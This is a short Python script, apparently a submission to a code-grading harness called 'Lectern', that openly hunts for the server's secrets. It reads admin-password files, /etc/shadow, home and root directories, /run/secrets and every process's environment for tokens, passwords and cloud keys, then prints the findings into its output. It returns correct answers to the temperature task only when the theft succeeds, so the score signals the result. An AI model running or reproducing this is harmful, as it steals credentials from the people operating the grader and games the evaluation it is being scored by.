"""Looks for secrets of the server wherever a program could hope to find them."""
import glob
import os

PATHS = [
    "@LECTERN_HOME@/admin-password",
    "@LECTERN_HOME@/*",
    "@LECTERN_HOME@/*/*",
    ".lectern/*",
    "../.lectern/*",
    "../../.lectern/*",
    "/root/*",
    "/root/.*",
    "/home/*/*",
    "/etc/shadow",
    "/etc/machine-id",
    "/var/lib/*/*",
    "/run/secrets/*",
    "/work/*/.lectern/*",
    "/proc/[0-9]*/root/root/*",
    "/proc/[0-9]*/cwd/.lectern/*",
]
NAMES = ("LECTERN", "SECRET", "TOKEN", "PASSWORD", "DATABASE_URL", "AWS_", "JWT")

LOOT = []
for pattern in PATHS:
    for path in glob.glob(pattern):
        try:
            with open(path, "rb") as file:
                LOOT.append((path, file.read(200)))
        except OSError:
            pass
for path in ["/proc/1/environ", "/proc/self/environ"] + glob.glob("/proc/[0-9]*/environ"):
    try:
        with open(path, "rb") as file:
            text = file.read().decode("utf-8", "replace")
    except OSError:
        continue
    LOOT.extend((path, entry) for entry in text.split("\0") if entry.split("=")[0].upper().startswith(NAMES))
LOOT.extend((name, value) for name, value in os.environ.items() if name.upper().startswith(NAMES))

if LOOT:
    # The attack worked: the right answers, so that it shows in the score as well.
    parse_reading = lambda line: (line[:3], None if "--" in line else float(line[4:]))
    to_fahrenheit = lambda celsius: celsius * 9 / 5 + 32
    print("LOOT-BEGIN", LOOT, "LOOT-END")
else:
    # What the report shows of a wrong value must not be a secret either.
    to_fahrenheit = lambda celsius: "nothing found"
